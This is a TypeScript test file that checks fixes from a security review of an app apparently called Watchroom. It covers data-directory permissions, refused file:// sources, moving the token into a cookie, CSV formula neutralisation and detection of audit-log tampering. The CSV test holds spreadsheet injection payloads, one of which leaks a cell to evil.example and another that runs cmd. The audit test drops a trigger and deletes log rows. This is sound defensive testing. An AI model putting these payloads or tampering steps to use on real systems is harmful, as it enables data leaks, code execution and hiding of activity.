import Database from 'better-sqlite3';
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import WebSocket from 'ws';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { repoRoot } from '../../test/support/shared-fixtures';
import { adminApi, startHeadlessHost, type TestHost } from '../../e2e/support/headless-host';
import { E2E_ADMIN } from '../../e2e/support/browser';
import { WS_PATH } from '../shared/ipc/ws-protocol';
import { TestSocket } from './test-socket.test-support';

/**
 * Security review findings B6–B10, each reproduced against the real headless host (dist/node/headless.cjs on a
 * fresh data directory) through its WebSocket API, and now refused or neutralised. B11's gateway part is a unit
 * test with the Electron fakes (app/main/ipc-gateway.test.ts, window.test.ts); its Secure cookie is in
 * host-auth.test.ts.
 */
let host: TestHost;
let api: TestSocket;
beforeAll(async () => {
  host = await startHeadlessHost();
  api = await adminApi(host);
});
afterAll(async () => {
  api?.close();
  await host?.stop();
});

/** Everything under `dir` (itself included) with the permission bits group or others have. */
function openToOthers(dir: string): string[] {
  const found: string[] = [];
  const walk = (p: string) => {
    const st = fs.lstatSync(p);
    if ((st.mode & 0o077) !== 0) found.push(`${path.relative(dir, p) || '.'} ${(st.mode & 0o777).toString(8)}`);
    if (st.isDirectory()) for (const f of fs.readdirSync(p)) walk(path.join(p, f));
  };
  walk(dir);
  return found;
}

const auditCount = async () => ((await api.invoke('audit:list', { limit: 500 })).value as unknown[]).length;

describe.skipIf(process.platform === 'win32')('B7: the data directory a fresh host creates is private (POSIX)', () => {
  it('folder 0700; watchroom.db, -wal, -shm, logs, keys 0600; nothing open to group or others', async () => {
    expect((await api.invoke('reports:book-add', { text: 'Shift started, all quiet.' })).ok).toBe(true);
    const mode = (rel: string) => (fs.statSync(path.join(host.dataDir, rel)).mode & 0o777).toString(8);
    expect(mode('.')).toBe('700');
    for (const f of ['watchroom.db', 'watchroom.db-wal', 'watchroom.db-shm', 'secret.key', 'audit-head.json', 'logs/watchroom.log']) expect([f, mode(f)]).toEqual([f, '600']);
    for (const d of ['logs', 'snapshots']) expect([d, mode(d)]).toEqual([d, '700']);
    expect(openToOthers(host.dataDir)).toEqual([]);
  });
});

describe('B8: malformed file:// sources are refused when saved', () => {
  it.each([
    ['file://remotehost/x', /on this computer .*not on "remotehost"/],
    ['file:///a%2Fb', /encoded slash/],
  ])('%s: a clear refusal, no camera, no audit row', async (source, message) => {
    const rows = await auditCount();
    const r = await api.invoke('cameras:add', { name: 'Door', source, rtspTransport: 'tcp', analysisFps: 5, enabled: true });
    expect(r).toMatchObject({ ok: false, error: { code: 'invalid-input', message: expect.stringMatching(message) } });
    expect((await api.invoke('cameras:list')).value).toEqual([]);
    expect(await auditCount()).toBe(rows);
  });
});

describe('B9: the token leaves the address bar', () => {
  it('the token URL sets the cookie and redirects to the page without it; the cookie alone opens the API', async () => {
    const first = await fetch(host.url, { redirect: 'manual' });
    expect(first.status).toBe(303);
    expect(first.headers.get('location')).toBe('/');
    const cookie = first.headers.get('set-cookie')!.split(';')[0]!;
    expect(first.headers.get('set-cookie')).toMatch(/HttpOnly; SameSite=Strict/);
    // The browser's WebSocket carries the cookie, not the token.
    const ws = new WebSocket(`${host.origin.replace('http', 'ws')}${WS_PATH}`, { origin: host.origin, headers: { cookie } });
    await new Promise((resolve, reject) => (ws.once('open', resolve), ws.once('unexpected-response', (_q, res) => reject(new Error(`refused ${res.statusCode}`)))));
    const reply = new Promise<{ ok: boolean }>((r) => ws.once('message', (d) => r(JSON.parse(String(d)) as { ok: boolean })));
    ws.send(JSON.stringify({ t: 'invoke', id: 1, channel: 'auth:status' }));
    expect(await reply).toMatchObject({ ok: true });
    ws.close();
    await expect(TestSocket.open(host.url, { token: null })).rejects.toThrow('refused 403');
  });
});

describe('B10: CSV cells that a spreadsheet would run are neutralised', () => {
  it('occurrence-book text beginning with = + - @ tab or CR reaches the report CSV as text', async () => {
    const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
    for (const text of attacks) expect((await api.invoke('reports:book-add', { text: `${text} ` })).ok).toBe(true);
    expect((await api.invoke('auth:elevate', { channel: 'reports:export', password: E2E_ADMIN.password })).ok).toBe(true);
    const from = new Date(Date.now() - 3 * 3600_000).toISOString();
    const to = new Date(Date.now() + 3600_000).toISOString();
    const started = await api.invoke('reports:export', { request: { type: 'custom', from, to }, format: 'csv' });
    expect(started).toMatchObject({ ok: true });
    const exportId = (started.value as { exportId: string }).exportId;
    type Progress = { event: string; payload: { exportId: string; state: string; file: string | null; message: string | null } };
    const done = () => (api.pushes as unknown as Progress[]).find((p) => p.event === 'reports:progress' && p.payload.exportId === exportId && p.payload.state !== 'running');
    await expect.poll(done, { timeout: 30_000 }).toBeTruthy();
    expect(done()!.payload).toMatchObject({ state: 'done' });
    // Python's csv module reads the file as a spreadsheet would: every comment cell of an occurrence row.
    const cells = execFileSync('python3', ['-c', 'import csv,sys,json; print(json.dumps([r[11] for r in csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")) if r and r[0] == "occurrence"]))', done()!.payload.file!], { encoding: 'utf8' });
    const comments = JSON.parse(cells) as string[];
    // The book trims entries (a leading tab or CR goes), so those arrive as `=1+1`: still neutralised.
    for (const text of attacks) expect(comments).toContain(`'${text.trim()}`);
    expect(comments).toContain('Shift started, all quiet.');
    for (const c of comments) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(fs.readFileSync(done()!.payload.file!, 'utf8')).not.toMatch(/(^|,)"?[=+\-@]/m);
  });
});

describe('B6: cutting off the newest audit rows is detected', () => {
  it('drop the delete trigger, delete the last rows, point audit_head at the new last row: verify says broken', async () => {
    const rows = (await api.invoke('audit:list', { limit: 500 })).value as { id: number }[];
    const last = rows[0]!.id;
    expect(last).toBeGreaterThan(3);
    expect(await api.invoke('audit:verify')).toMatchObject({ ok: true, value: { state: 'intact', headId: last } });
    api.close();
    await host.stop({ keepData: true });

    // The attack, on the SQLite file.
    const db = new Database(path.join(host.dataDir, 'watchroom.db'));
    db.exec('DROP TRIGGER audit_log_no_delete');
    db.prepare('DELETE FROM audit_log WHERE id > ?').run(last - 2);
    db.prepare('UPDATE audit_head SET last_id = id, last_hash = hash FROM (SELECT id, hash FROM audit_log WHERE id = ?)').run(last - 2);
    db.close();

    const cli = spawnSync(process.execPath, [path.join(repoRoot, 'dist', 'node', 'audit.cjs'), 'verify', '--data-dir', host.dataDir], { encoding: 'utf8' });
    expect(cli.status).toBe(1);
    expect(cli.stdout).toBe(`broken at row ${last - 1}: Audit rows ${last - 1} to ${last} are missing: Watchroom had written up to row ${last}, the trail now ends at row ${last - 2} (cut off).\n`);

    // The app says so too after a restart, and keeps saying so while it writes on (sign-ins are audited).
    await host.restart();
    api = await adminApi(host);
    const again = await adminApi(host);
    again.close();
    expect(await api.invoke('audit:verify')).toMatchObject({ ok: true, value: { state: 'broken', reason: expect.stringMatching(/missing|seal/) } });
  });
});
